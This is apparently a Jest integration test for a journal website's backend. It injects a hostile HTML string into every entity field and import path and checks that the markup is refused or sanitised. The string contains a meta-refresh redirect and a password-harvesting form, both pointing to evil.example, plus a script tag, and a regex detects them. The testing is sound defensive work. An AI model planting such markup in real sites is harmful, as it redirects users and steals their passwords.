import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Types } from 'mongoose';
import { articleFields, enteredArticleFields } from '#contracts/fields/article-fields.ts';
import { editorFields } from '#contracts/fields/editor-fields.ts';
import type { Issue, StaffArticle } from '#contracts/fields/entities.ts';
import { editableIssueFields } from '#contracts/fields/issue-fields.ts';
import { entryFields } from '#contracts/fields/entry-fields.ts';
import type { ErrorBody } from '#contracts/api/errors.ts';
import { type Field, type Fields, namesOf } from '#contracts/fields/fields.ts';
import { draftFields, manuscriptFields } from '#contracts/fields/manuscript-fields.ts';
import { mailFields } from '#contracts/fields/mail-fields.ts';
import { pageFields } from '#contracts/fields/page-fields.ts';
import { partnerFields } from '#contracts/fields/partner-fields.ts';
import { paths } from '#contracts/journal/paths.ts';
import { decodeRichText, type EncodedHtml } from '#contracts/text/rich-text.ts';
import { reportFields } from '#contracts/fields/review-fields.ts';
import { settingsFields } from '#contracts/fields/settings-fields.ts';
import { userFields } from '#contracts/fields/user-fields.ts';
import { addIssue, articleForm, sendArticle } from './builders/articles.ts';
import { checkImport, importRow, loadImport, pdfsOf } from './builders/imports.ts';
import { makeZip } from './builders/make-zip.ts';
import { invitedReviewer, sentManuscript } from './builders/manuscripts.ts';
import { readZip } from './readers/read-zip.ts';
import { ADMIN } from './running/running-auth.ts';
import { runCatalogWithWorker } from './running/running-catalog-worker.ts';
import { type RunningManuscripts, runManuscripts } from './running/running-manuscripts.ts';
import { type RunningWebdata, runWebdata } from './running/running-webdata.ts';
import { ServiceProcess } from './running/service-process.ts';

type Values = Record<string, unknown>;
const MANUSCRIPTS = '/api/admin/manuscripts';
const REVIEW = '/api/manuscripts/review';

const hostile =
  'Hostile <i>words</i><meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example"><input name="password"></form><script>evil()</script>';
/** What a browser would obey, on any page. */
const obeyed = /<(?:meta http-equiv="refresh"|form action="https:\/\/evil|input name="password"|script>evil)/;
const foreignTag = /<(?!\/?(?:p|br|i|em|b|strong|u|sub|sup|ul|ol|li|a|h2|h3)\b)/;

/** Values with the markup somewhere, each of which the field refuses or makes harmless. */
function hostileValues(field: Field): unknown[] {
  if (field.type === 'picture') return [];
  if (field.type === 'list') return [[hostile]];
  if (field.type !== 'rows') return [hostile];
  const { row } = field;
  return namesOf(row).flatMap((name) =>
    hostileValues(row[name]!).map((value) => [{ ...requiredOf(row), [name]: value }]),
  );
}

const requiredOf = (row: Fields): Values =>
  Object.fromEntries(
    Object.entries(row).flatMap(([name, field]) => {
      if (field.optional) return [];
      return [[name, field.type === 'choice' ? field.options[0] : name === 'year' ? '2024' : 'Asha Verma']];
    }),
  );

/** Another title, and the author names of the authors. */
const anotherArticle = ({ authors }: Values): Values => ({
  title: `Another ${hostile}`,
  authorname: (authors as { name: string }[]).map(({ name }) => name).join(', '),
});

const isRich = (field: Field | undefined) => field?.type === 'rich';

/** Every rich text of an API response, wherever an entity is in it. */
function expectSanitised(response: unknown, fields: Fields): void {
  if (typeof response !== 'object' || response === null) return;
  for (const [name, value] of Object.entries(response)) {
    const field = fields[name];
    if (field?.type !== 'rich' || typeof value !== 'string') expectSanitised(value, fields);
    else {
      const html = field.encoded === false ? value : decodeRichText(value as EncodedHtml);
      if (field.encoded !== false) expect([name, value]).toEqual([name, expect.not.stringMatching(/[<>"]/)]);
      expect([name, html]).toEqual([name, expect.not.stringMatching(foreignTag)]);
    }
  }
}

describe('Markup in every field of every entity', () => {
  let catalog: Awaited<ReturnType<typeof runCatalogWithWorker>>;
  let webdata: RunningWebdata;
  let manuscripts: RunningManuscripts;
  let web: ServiceProcess;
  let issue: Issue;
  let reviewer: ReturnType<RunningManuscripts['withLink']>;
  const acceptedBy = new Map<string, Values>();

  beforeAll(async () => {
    catalog = await runCatalogWithWorker();
    webdata = await runWebdata(catalog.auth);
    manuscripts = await runManuscripts(catalog);
    const addresses = {
      CATALOG_URL: catalog.url,
      DOCUMENTS_URL: catalog.url,
      SITE_ORIGIN: 'https://journal.example',
    };
    web = await ServiceProcess.start('web', 'main', { HOST: '127.0.0.1', ...addresses });
    issue = await addIssue(catalog.staff);
  });
  afterAll(() => web.stop());

  const users = (path: string, body: object) =>
    fetch(catalog.auth.url + path, {
      method: 'POST',
      headers: { ...catalog.auth.signedIn, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  interface Entity {
    fields: Fields;
    /** Creates one that is valid but for the given values; multipart where the form is. */
    create: (given: Values) => PromiseLike<Response>;
    /** Changes one; those without such a call are created for each value. */
    change?: (id: string, given: Values) => PromiseLike<Response>;
    lists: string[];
    /** The pages that readers see it on. */
    pages: (entity: never) => string[];
  }
  interface Response {
    status: number;
    body: unknown;
  }

  const asForm = (values: Values) =>
    Object.fromEntries(
      Object.entries(values).map(([name, value]) => [
        name,
        typeof value === 'string' ? value : JSON.stringify(value),
      ]),
    );
  const changeAt = (path: string) => (id: string, given: Values) =>
    catalog.staff.post(`${path}/${id}`).send(given);
  const usersCall = async (path: string, given: Values): Promise<Response> => {
    const response = await users(path, given);
    return { status: response.status, body: (await response.json()) as unknown };
  };

  const entities: Record<string, Entity> = {
    article: {
      fields: enteredArticleFields,
      create: (given) => sendArticle(catalog.staff, articleForm(asForm(given))),
      change: changeAt('/api/archives'),
      lists: ['/api/archives/2026/5/2', '/api/search?keyword=hostile', '/api/archives/recent'],
      pages: (article: StaffArticle) => [
        paths.article(article),
        paths.issue(article),
        '/',
        '/recent',
        '/search?keyword=hostile',
        paths.publication(article.refnumber),
      ],
    },
    issue: {
      fields: editableIssueFields,
      create: (given) => catalog.staff.post(`/api/admin/issues/${issue.id}`).send(given),
      lists: ['/api/archives', '/api/archives/2026/5/2/about'],
      pages: (edited: Issue) => [paths.issue(edited), '/archives', '/'],
    },
    editor: {
      fields: editorFields,
      create: (given) =>
        catalog.staff
          .post('/api/editors')
          .field(
            asForm({ name: 'Asha', category: 'chief editor', post: 'Head', content: 'University', ...given }),
          ),
      change: changeAt('/api/editors'),
      lists: ['/api/editors'],
      pages: () => ['/board'],
    },
    partner: {
      fields: partnerFields,
      create: (given) => catalog.staff.post('/api/indexing').field(asForm({ title: 'Index', ...given })),
      change: changeAt('/api/indexing'),
      lists: ['/api/indexing'],
      pages: () => ['/indexing', '/'],
    },
    page: {
      fields: pageFields,
      create: (given) =>
        catalog.staff.post('/api/pages').send({
          title: 'Policy',
          slug: `policy-${new Types.ObjectId().toHexString()}`,
          date: '2026-01-31',
          kind: 'announcement',
          place: 'instructions',
          status: 'enabled',
          ...given,
        }),
      change: changeAt('/api/pages'),
      lists: ['/api/pages', '/api/pages/in/instructions', '/api/announcements'],
      pages: (page: { slug: string }) => [paths.page(page.slug), '/instructions', '/announcements'],
    },
    settings: {
      fields: settingsFields,
      create: (given) => catalog.staff.post('/api/settings').send(given),
      lists: ['/api/settings'],
      pages: () => ['/', '/about', '/contact', '/instructions'],
    },
    entry: {
      fields: entryFields,
      create: (given) => webdata.staff.post('/api/webdata').send({ content: 'x', status: 'info', ...given }),
      lists: [],
      pages: () => [],
    },
    manuscript: {
      fields: manuscriptFields,
      create: (given) => manuscripts.staff.post(MANUSCRIPTS).send({ email: 'asha@example.org', ...given }),
      change: (id, given) => manuscripts.staff.patch(`${MANUSCRIPTS}/${id}`).send(given),
      lists: [],
      pages: () => [],
    },
    review: {
      fields: reportFields,
      create: async (given) => {
        const { sent } = await sentManuscript(manuscripts);
        const { token } = await invitedReviewer(manuscripts, sent.id);
        reviewer = manuscripts.withLink(token);
        await reviewer.post(`${REVIEW}/answer`).send({ answer: 'accept' }).expect(200);
        return reviewer.patch(REVIEW).send(given);
      },
      change: (_, given) => reviewer.patch(REVIEW).send(given),
      lists: [],
      pages: () => [],
    },
    user: {
      fields: userFields,
      create: (given) =>
        usersCall('/api/users', {
          name: `user ${new Types.ObjectId().toHexString()}`,
          password: 'a long password',
          ...given,
        }),
      change: (id, given) => usersCall(`/api/users/${id}`, { current_password: ADMIN.password, ...given }),
      lists: [],
      pages: () => [],
    },
  };

  async function expectHarmless({ fields, lists, pages }: Entity, entity: never): Promise<void> {
    for (const caller of [catalog.visitor, catalog.staff])
      for (const list of lists) {
        const response = await caller.get(list);
        expect([list, response.status]).toEqual([list, 200]);
        expectSanitised(response.body, fields);
      }
    for (const page of pages(entity)) {
      const html = await (await fetch(web.url + page)).text();
      expect([page, html]).toEqual([page, expect.not.stringMatching(obeyed)]);
      expect([page, html]).toEqual([page, expect.stringContaining('Hostile')]);
    }
  }

  it('is tried in the fields of every table', async () => {
    const contracts = join(import.meta.dirname, '../../contracts/src/fields');
    const tables = readdirSync(contracts).filter((file) => file.endsWith('-fields.ts'));
    const exported: unknown[] = [];
    for (const file of tables)
      exported.push(...Object.values((await import(join(contracts, file))) as Record<string, unknown>));
    const withRows = (fields: Fields): Field[] =>
      Object.values(fields).flatMap((field) => [
        field,
        ...(field.type === 'rows' ? withRows(field.row) : []),
      ]);
    // Those of the mail server are kept only once it has accepted them: mail-settings.spec.ts.
    const known = new Set(
      [
        articleFields,
        draftFields,
        mailFields,
        ...Object.values(entities).map(({ fields }) => fields),
      ].flatMap(withRows),
    );
    const isField = (value: unknown): value is Field =>
      typeof value === 'object' && value !== null && 'label' in value && 'type' in value;
    const all = exported.flatMap((table) => Object.values(table ?? {}).filter(isField));
    expect(all.length).toBeGreaterThan(100);
    expect(all.filter((field) => !known.has(field))).toEqual([]);
  });

  it.each(Object.keys(entities))('is refused, or harmless when it is sent and shown: %s', async (kind) => {
    const entity = entities[kind]!;
    const { fields, create, change } = entity;
    const { id } = (await create({})).body as { id: string };
    const accepted: Values = {};
    for (const name of namesOf(fields))
      for (const value of hostileValues(fields[name]!)) {
        const response = await (change ? change(id, { [name]: value }) : create({ [name]: value }));
        if (response.status < 300) {
          const rows = Array.isArray(value) && Array.isArray(accepted[name]) ? accepted[name] : [];
          accepted[name] = Array.isArray(value) ? [...(rows as unknown[]), ...(value as unknown[])] : value;
          expectSanitised(response.body, fields);
        } else {
          const body = response.body as ErrorBody;
          expect(response.status).toBeLessThan(500);
          const named = Object.keys(body.fields ?? { [name]: '' }).map((field) => field.split('.')[0]);
          expect([name, value, named]).toEqual([name, value, [name]]);
        }
      }
    const rich = namesOf(fields).filter((name) => isRich(fields[name]));
    expect(Object.keys(accepted)).toEqual(expect.arrayContaining(rich));
    acceptedBy.set(kind, accepted);
    const again = kind === 'article' ? anotherArticle(accepted) : {};
    const created = await create({ ...accepted, ...again });
    expect([created.body, created.status < 300]).toEqual([created.body, true]);
    expectSanitised(created.body, fields);
    await expectHarmless(entity, created.body as never);
  });

  it('is refused, or harmless when a list of articles is imported as CSV', async () => {
    const texts = Object.entries(acceptedBy.get('article')!).filter(([, value]) => typeof value === 'string');
    const row = importRow({ ...Object.fromEntries(texts), title: `Imported ${hostile}` });
    const quoted = (value: unknown) => `"${String(value).replaceAll('"', '""')}"`;
    const csv = [Object.keys(row), Object.values(row)].map((cells) => cells.map(quoted).join(',')).join('\n');
    const checked = await checkImport(
      catalog.staff,
      makeZip([{ name: 'articles.csv', data: csv }, ...pdfsOf([row])]),
    );
    expect(checked).toMatchObject({ state: 'checked', problems: 0, rows: [] });
    expectSanitised(
      (await catalog.staff.get(`/api/admin/imports/${checked.id}/articles`)).body,
      articleFields,
    );
    await loadImport(catalog.staff, checked);
    const article = await catalog.visitor.get(`/api/archives/ref/${String(row.refnumber)}`);
    expectSanitised(article.body, articleFields);
    await expectHarmless(entities.article!, article.body as never);
  });

  it('is harmless in every list of an imported journal', async () => {
    const response = await catalog.staff.get('/api/admin/export').responseType('blob');
    const files = [...(await readZip(response.body as Buffer))].filter(([name]) => name !== 'articles.json');
    const marked = (fields: Fields) =>
      Object.fromEntries(
        namesOf(fields)
          .filter((name) => isRich(fields[name]))
          .map((name) => [name, hostile]),
      );
    const id = () => new Types.ObjectId().toHexString();
    const tables: Record<string, (row: Values) => Values> = {
      'editors.json': (row) => ({ ...row, ...marked(editorFields), id: id() }),
      'indexing.json': (row) => ({ ...row, ...marked(partnerFields), id: id() }),
      'pages.json': (row) => ({ ...row, ...marked(pageFields), slug: `imported-${id()}`, id: id() }),
      'settings.json': (row) => ({ ...row, ...marked(settingsFields) }),
    };
    const lists = files.map(([name, data]) => {
      const table = tables[name];
      if (!table) return { name, data };
      const rows = JSON.parse(data.toString()) as Values | Values[];
      return { name, data: JSON.stringify(Array.isArray(rows) ? rows.map(table) : table(rows)) };
    });
    expect(lists.map(({ name }) => name)).toEqual(expect.arrayContaining(Object.keys(tables)));
    const row = importRow({
      ...marked(articleFields),
      title: `Restored ${hostile}`,
      pdf: 'articles/restored.pdf',
    });
    const restored = {
      ...row,
      id: id(),
      status: 'enabled',
      createdby: 'x',
      modifiedby: 'x',
      version: 1,
      creation: '2026-01-31T09:30:00.000Z',
      modification: '2026-01-31T09:30:00.000Z',
    };
    const others = lists.filter(({ name }) => name !== 'issues.json');
    const zip = makeZip([
      ...others,
      { name: 'articles.json', data: JSON.stringify([restored]) },
      ...pdfsOf([row]),
    ]);
    const checked = await checkImport(catalog.staff, zip);
    expect(checked).toMatchObject({ state: 'checked', contents: 'journal', problems: 0 });
    await loadImport(catalog.staff, checked);
    for (const kind of ['editor', 'partner', 'settings']) await expectHarmless(entities[kind]!, {} as never);
    const article = await catalog.visitor.get(`/api/archives/ref/${String(row.refnumber)}`);
    await expectHarmless(entities.article!, article.body as never);
    for (const { slug } of (await catalog.visitor.get('/api/pages/in/instructions')).body as {
      slug: string;
    }[]) {
      expectSanitised((await catalog.visitor.get(`/api/pages/${slug}`)).body, pageFields);
      const html = await (await fetch(web.url + paths.page(slug))).text();
      expect([slug, html]).toEqual([slug, expect.not.stringMatching(obeyed)]);
    }
  });
});
